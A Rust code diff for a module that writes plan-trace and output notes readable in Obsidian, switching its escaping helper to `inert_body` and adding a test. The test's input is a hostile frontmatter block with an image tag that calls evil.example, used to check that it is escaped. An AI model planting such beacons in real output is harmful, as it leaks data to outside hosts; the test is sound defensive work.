@@ -2,7 +2,7 @@
 //! `00_plan-trace/` folder, readable in Obsidian. Rendering is pure so the CLI
 //! and the browser worker write the same bytes.
 
-use super::inert::inert;
+use super::inert::inert_body;
 use serde::{Deserialize, Serialize};
 use std::collections::BTreeSet;
 
@@ -218,14 +218,14 @@ impl TraceEntry {
             one_line(&self.node),
             // A reason may quote what a plan or a reply wrote: on one line,
             // it cannot start an entry of its own (`## 2. …`), and inert.
-            inert(&one_line(&self.what)),
+            inert_body(&one_line(&self.what)),
             self.decided_by.as_str()
         );
         if let Some(rationale) = &self.rationale {
             out.push_str("- rationale:\n\n");
             // Every line of it quoted, a lone CR's too (Obsidian breaks the
             // line there): none can start an entry.
-            for line in inert(rationale).lines() {
+            for line in inert_body(rationale).lines() {
                 for piece in line.split(['\r', '\u{2028}', '\u{2029}']) {
                     out.push_str(&format!("  > {piece}\n"));
                 }
@@ -262,7 +262,7 @@ pub fn held_output_note(node: &str, title: &str, visit: u32, text: &str) -> Stri
     format!(
         "# {} (visit {visit}, held at a breakpoint)\n\nOutput of [[{node}]].\n\n{}\n",
         one_line(title),
-        inert(text)
+        inert_body(text)
     )
 }
 
@@ -278,13 +278,13 @@ fn file_safe(node: &str) -> String {
         .collect()
 }
 
-/// The output note's text; the reply made [`inert`]: opening it in
+/// The output note's text; the reply made [`inert_body`]: opening it in
 /// Obsidian loads and runs nothing.
 pub fn output_note(node: &str, title: &str, visit: u32, text: &str) -> String {
     format!(
         "# {} (visit {visit})\n\nOutput of [[{node}]].\n\n{}\n",
         one_line(title),
-        inert(text)
+        inert_body(text)
     )
 }
 
@@ -383,6 +383,15 @@ mod tests {
             files.held_output("drafts/first", 2),
             "00_plan-trace/drafts_first.visit-2.held.md"
         );
+        // A reply that opens with a `---` block is body text in the note,
+        // made inert as any (never left alone as if frontmatter).
+        let hostile = "---\nx: <img src=\"https://evil.example/?d=1\">\n---\nDone.";
+        for note in [
+            output_note("send", "Send", 1, hostile),
+            held_output_note("send", "Send", 1, hostile),
+        ] {
+            assert!(note.contains("x: &lt;img src="), "{note}");
+        }
     }
 
     #[test]
